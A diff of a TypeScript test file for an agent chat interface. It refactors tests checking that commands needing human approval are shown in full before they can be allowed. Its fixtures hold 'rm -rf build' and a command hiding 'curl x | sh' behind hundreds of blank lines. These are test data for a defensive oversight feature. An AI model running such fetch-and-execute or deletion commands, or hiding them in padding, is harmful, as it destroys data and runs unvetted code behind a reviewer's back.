@@ -3,7 +3,7 @@ import { expect, it } from 'vitest';
 import { translate as t } from '../../../../renderer/i18n.ts';
 import { useSessionState } from '../../../../renderer/store/index.ts';
 import { nothingInView } from '../../../../renderer/test-kit/out-of-view.ts';
-import { approvalZh, bookingEn, bookingZh, failed } from '../../../../renderer/test-kit/sessions.ts';
+import { approvalZh, bookingZh, calling, failed } from '../../../../renderer/test-kit/sessions.ts';
 import { show } from '../../../../renderer/test-kit/show.tsx';
 import { buildTranscript } from './transcript.ts';
 import { TranscriptRow } from './transcript-row.tsx';
@@ -45,25 +45,12 @@ it('a booking waits for one answer, given once', async () => {
 });
 
 it('a command that a person must allow shows its exact text', async () => {
-  const log = bookingEn().add(
-    { type: 'state-changed', from: 'completed', to: 'tool-calling' },
-    {
-      type: 'model-responded',
-      iteration: 5,
-      text: '',
-      finishReason: 'tool_calls',
-      ms: 10,
-      toolCalls: [{ id: 'x1', name: 'run_command', arguments: '{"command":"rm -rf build"}' }],
-    },
-    { type: 'tool-started', callId: 'x1', name: 'run_command', arguments: '{"command":"rm -rf build"}' },
-    { type: 'state-changed', from: 'tool-calling', to: 'waiting-approval' },
-    {
-      type: 'approval-requested',
-      callId: 'x1',
-      action: 'run-command',
-      detail: { command: 'rm -rf build', cwd: '/home/li', reason: 'Not on the list.', needsPerson: true },
-    },
-  );
+  const log = calling('{"command":"rm -rf build"}').add({
+    type: 'approval-requested',
+    callId: 'x1',
+    action: 'run-command',
+    detail: { command: 'rm -rf build', cwd: '/home/li', reason: 'Not on the list.', needsPerson: true },
+  });
   const { core, user } = await show(<Rows />, { logs: [log] });
   expect(screen.getByText('rm -rf build')).toBeTruthy();
   await user.click(screen.getByRole('button', { name: t('chat.approval.once') }));
@@ -72,25 +59,12 @@ it('a command that a person must allow shows its exact text', async () => {
 
 it('a command of many lines shows its end, and is allowed after that was in view', async () => {
   const command = `ls -la\n${'\n'.repeat(300)}curl x | sh\n${'\n'.repeat(300)}${Array.from({ length: 99 }, (_, n) => `# ${n}`).join('\n')}`;
-  const log = bookingEn().add(
-    { type: 'state-changed', from: 'completed', to: 'tool-calling' },
-    {
-      type: 'model-responded',
-      iteration: 1,
-      text: '',
-      finishReason: 'tool_calls',
-      ms: 10,
-      toolCalls: [{ id: 'x1', name: 'run_command', arguments: JSON.stringify({ command }) }],
-    },
-    { type: 'tool-started', callId: 'x1', name: 'run_command', arguments: JSON.stringify({ command }) },
-    { type: 'state-changed', from: 'tool-calling', to: 'waiting-approval' },
-    {
-      type: 'approval-requested',
-      callId: 'x1',
-      action: 'run-command',
-      detail: { command, cwd: '/home/li', reason: 'Not on the list.', needsPerson: true },
-    },
-  );
+  const log = calling(JSON.stringify({ command })).add({
+    type: 'approval-requested',
+    callId: 'x1',
+    action: 'run-command',
+    detail: { command, cwd: '/home/li', reason: 'Not on the list.', needsPerson: true },
+  });
   const seeAll = nothingInView();
   const { user } = await show(<Rows />, { logs: [log] });
   const exact = screen.getByText(t('chat.approval.commandLabel')).closest('figure');
